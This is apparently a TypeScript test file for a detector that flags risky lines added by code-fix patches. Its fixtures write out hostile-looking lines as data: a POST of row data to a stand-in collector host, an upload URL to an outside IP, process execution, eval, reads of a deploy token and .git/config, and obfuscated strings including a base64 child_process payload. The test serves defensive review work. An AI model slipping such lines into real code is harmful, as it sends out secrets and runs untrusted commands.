import { unifiedDiff } from '../../../src/repo/unified-diff.js';
import { describeRisks, riskFlags } from '../../../src/investigate/fixes/risk.js';
import type { FilePatch } from '../../../src/investigate/fixes/types.js';

const BEFORE = [
  "import { createServer } from 'node:http';",
  "const upstream = await fetch('http://127.0.0.1:9000/prices');",
  'export const port = Number(process.env.PORT);',
  'export function year(row) {',
  '  return row.year;',
  '}',
].join('\n');

function patch(after: string, path = 'src/server.js'): FilePatch {
  const diff = unifiedDiff(`${BEFORE}\n`, `${after}\n`, { path });
  return { path, diff: diff.text, added: diff.added, removed: diff.removed, created: false };
}

const withLine = (line: string) =>
  BEFORE.replace('  return row.year;', `  ${line}\n  return Number(row.year);`);

describe('riskFlags', () => {
  it.each([
    ['a new process', "require('child_process').exec(row.cmd);", 'a new process'],
    [
      'a new network call',
      "await fetch('https://collector.example.net/x', { method: 'POST', body: row });",
      'a new network call',
    ],
    ['a URL that leaves the machine', "const sink = 'https://203.0.113.9/upload';", 'a new network call'],
    ['code run from a string', 'eval(row.script);', 'code run from a string'],
    [
      'a read of the environment',
      'const token = process.env.DEPLOY_TOKEN;',
      'a read of credentials or the environment',
    ],
    [
      'a read of git credentials',
      "readFileSync('.git/config', 'utf8');",
      'a read of credentials or the environment',
    ],
    [
      'a base64 blob',
      "const blob = 'ZXhwb3J0IGNvbnN0IHg9cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';",
      'an obfuscated string',
    ],
    [
      'characters built from codes',
      'const word = String.fromCharCode(101, 118, 97, 108);',
      'an obfuscated string',
    ],
  ])('flags %s', (_what, line, kind) => {
    const flags = riskFlags([patch(withLine(line))]);
    expect(flags).toContainEqual({ path: 'src/server.js', line: 5, kind, text: line });
  });

  it('does not flag what the fix only rewrites, a loopback URL, or plain code', () => {
    const rewritten = BEFORE.replace(
      "const upstream = await fetch('http://127.0.0.1:9000/prices');",
      "const upstream = await fetch('http://127.0.0.1:9000/prices', { signal: AbortSignal.timeout(2000) });",
    )
      .replace(
        'export const port = Number(process.env.PORT);',
        'export const port = Number(process.env.PORT ?? 3000);',
      )
      .replace('  return row.year;', '  return Number.parseInt(row.year, 10);');
    expect(riskFlags([patch(rewritten)])).toEqual([]);
  });

  it('says what the flags are in one sentence', () => {
    const flags = riskFlags([
      patch(withLine("require('child_process').exec(row.cmd); const t = process.env.DEPLOY_TOKEN;")),
    ]);
    expect(describeRisks(flags)).toBe(
      'a new process (src/server.js:5); a read of credentials or the environment (src/server.js:5)',
    );
  });
});
